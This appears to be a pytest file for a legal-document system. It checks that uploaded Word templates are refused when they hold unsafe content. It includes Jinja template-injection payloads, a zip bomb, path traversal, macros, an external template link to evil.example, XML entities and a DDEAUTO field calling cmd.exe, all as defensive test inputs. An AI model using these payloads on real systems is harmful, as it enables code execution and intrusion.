"""Templates an administrator puts in: what is refused, and which version a document is written with."""

import io
import zipfile

import pytest
from docx import Document as Opened

from processes import documents
from processes.documents import example, template_validation, templates, writing
from processes.documents.errors import TemplateRefused
from processes.documents.kinds import KINDS
from processes.documents.template_builders import __main__ as template_builders
from processes.documents.template_builders import mediation as builders
from tests.processes.documents.papers import made, read, text


def with_part(content, name, part):
    """The same archive with one part put in or replaced."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(written, "w") as new:
        for each in old.infolist():
            if each.filename != name:
                new.writestr(each, old.read(each))
        new.writestr(name, part, zipfile.ZIP_DEFLATED)
    return written.getvalue()


def parts(content):
    """What an archive holds, whenever it was packed."""
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        return {each: opened.read(each) for each in opened.namelist()}


def refusal(content):
    with pytest.raises(TemplateRefused) as refused:
        template_validation.require_safe(content)
    return str(refused.value)


def test_the_shipped_templates_are_what_their_builders_draw(tmp_path):
    template_builders.write_all(tmp_path)
    drawn = {each.stem: parts(each.read_bytes()) for each in tmp_path.iterdir()}
    assert drawn.keys() == KINDS.keys()
    assert [kind for kind in KINDS if drawn[kind] != parts(templates.read_shipped(kind))] == []


@pytest.mark.parametrize("kind", KINDS)
def test_every_shipped_template_passes_the_check_and_fills_in(kind):
    template_validation.require_safe(templates.read_shipped(kind))
    said = text(writing.write(templates.read_shipped(kind), example.facts(kind)))
    assert "{" not in said
    assert "None" not in said


@pytest.mark.parametrize(
    "attack",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ 案件.__class__ }}",
        "{{ 案件.案码.__class__ }}",
        "{{ 案件.案码.format(案件) }}",
        "{{ self._TemplateReference__context }}",
        "{{ cycler.__init__.__globals__ }}",
        "{{ lipsum.__globals__ }}",
        "{{ range(1000000) }}",
        "{{ 案件['案码'] }}",
        "{{ 案件|attr('案码') }}",
        "{{ 案件.案码|upper }}",
        "{{ 案件.案码|横线（9） }}",
        "{{ 2 ** 99999999 }}",
        "{{ 'x' * 999999999 }}",
        "{{ 案件 }}",
        "{{ 申请人 }}",
        "{{ 不存在 }}",
        "{% set x = 案件 %}",
        "{% include 'x' %}",
        "{% import 'x' as y %}",
        "{% extends 'x' %}",
        "{% macro m() %}{% endmacro %}",
        "{% for a in 申请人 if a.姓名 %}{% endfor %}",
        "{% for 案件 in 申请人 %}{% endfor %}",
        "{% for a in 案件 %}{% endfor %}",
        "{% for a in 申请人 %}{% for b in 申请人 %}{% for c in 申请人 %}{% endfor %}{% endfor %}{% endfor %}",
        "{% if 案件.案码 == '' %}{% endif %}",
        "{% raw %}{{ 案件.案码 }}{% endraw %}{{ x() }}",
        "{% filter upper %}{% endfilter %}",
        "{% for a in 申请人 %}",
        "{{ 案件.案码",
        "{% colspan 案件.__class__ %}",
    ],
)
def test_what_is_more_than_a_name_a_loop_or_a_condition_is_refused(attack):
    assert "填写时出错" not in refusal(made("案码：", attack))


@pytest.mark.parametrize("part", ["header", "footer", "properties", "split", "entity"])
def test_an_attack_is_found_wherever_it_stands(part):
    attack, paper = "{{ x.y() }}", Opened()
    if part == "properties":
        paper.core_properties.subject = attack
    elif part == "split":
        paragraph = paper.add_paragraph("{")
        for piece in ("{ x", ".y(", ") }", "}"):
            paragraph.add_run(piece).bold = True
    else:
        place = getattr(paper.sections[0], part, paper)
        place.add_paragraph(attack) if part != "entity" else paper.add_paragraph("&#40;")
    written = io.BytesIO()
    paper.save(written)
    content = written.getvalue()
    if part == "entity":
        xml = zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml")
        hidden = xml.replace(b"&amp;#40;", b"&#123;&#123; x&#46;y() &#125;&#125;")
        content = with_part(content, "word/document.xml", hidden)
    assert "不能使用函数调用" in refusal(content)


def test_a_file_that_is_no_word_document_is_refused():
    assert "已损坏" in refusal(b"%PDF-1.7")
    assert "已损坏" in refusal(made("x")[:-200])
    empty = io.BytesIO()
    zipfile.ZipFile(empty, "w").close()
    assert "不是 Word 文档" in refusal(empty.getvalue())


def test_a_bomb_is_not_unpacked():
    assert "过大" in refusal(with_part(made("x"), "word/bomb.xml", b"<a>" + b" " * 9_000_000))
    deep = "{{ 案件.案码 }}" * 500
    assert "标记超过" in refusal(made(deep))
    assert "超过2兆字节" in refusal(b"PK" + bytes(3_000_000))


@pytest.mark.parametrize(
    "name", ["word/vbaProject.bin", "word/embeddings/oleObject1.bin", "../evil.xml", "word/a.svg"]
)
def test_macros_and_embedded_things_are_refused(name):
    assert "不允许的内容" in refusal(with_part(made("x"), name, b"x"))


def test_a_macro_enabled_document_is_refused():
    content = made("x")
    types = zipfile.ZipFile(io.BytesIO(content)).read("[Content_Types].xml")
    macro = types.replace(
        b"vnd.openxmlformats-officedocument.wordprocessingml.document.main",
        b"vnd.ms-word.document.macroEnabled.main",
    )
    assert "带宏" in refusal(with_part(content, "[Content_Types].xml", macro))


def test_a_template_reaches_nothing_outside():
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"'
        b' TargetMode="External"/></Relationships>'
    )
    assert "文件之外" in refusal(with_part(made("x"), "word/_rels/settings.xml.rels", relations))


def test_a_document_type_is_refused():
    bomb = b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
    assert "文档类型" in refusal(with_part(made("x"), "word/settings.xml", bomb))
    sixteen = '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16")
    assert "UTF-8" in refusal(with_part(made("x"), "word/settings.xml", sixteen))


def test_a_field_that_fetches_something_is_refused():
    content = made("FIELD")
    xml = zipfile.ZipFile(io.BytesIO(content)).read("word/document.xml")
    field = xml.replace(b"<w:t>FIELD</w:t>", b'<w:instrText>DDEAUTO c:\\cmd.exe "/k"</w:instrText>')
    assert "域代码" in refusal(with_part(content, "word/document.xml", field))


def test_a_new_template_is_used_from_now_on_and_can_be_put_back(session, case, cast):
    admin = cast["system_admin"]
    before = documents.issue(session, case.id, "statement", by=None, content="甲")
    own = made("本地格式", "{{ 案件.案码 }}", "{{ 本件.内容|横线 }}")
    version = templates.add(
        session, case.district, "statement", name="a.docx", content=own, by=admin
    )
    unused = documents.issue(session, case.id, "statement", by=None, content="乙")
    templates.use(session, version)
    during = documents.issue(session, case.id, "statement", by=None, content="丙")
    templates.back_to_shipped(session, case.district, "statement")
    after = documents.issue(session, case.id, "statement", by=None, content="丁")
    local = ["本地格式" in read(session, each) for each in (before, unused, during, after)]
    assert local == [False, False, True, False]
    assert read(session, during).split("\n") == ["本地格式", case.case_no, "丙"]


def test_a_template_drawn_again_stays_as_it_is_while_nothing_in_it_changed(tmp_path):
    file = tmp_path / "statement.docx"
    altered = with_part(templates.read_shipped("statement"), "docProps/app.xml", b"")
    shipped = templates.read_shipped("statement")
    file.write_bytes(repacked(shipped))
    builders.statement().save(file)
    assert file.read_bytes() == repacked(shipped)
    file.write_bytes(altered)
    builders.statement().save(file)
    assert text(file.read_bytes()) == text(shipped)
    assert file.read_bytes() != altered


def repacked(content):
    """The same parts, packed at another time."""
    written = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(written, "w") as new:
        for each in old.infolist():
            new.writestr(zipfile.ZipInfo(each.filename, (2020, 1, 1, 0, 0, 0)), old.read(each))
    return written.getvalue()
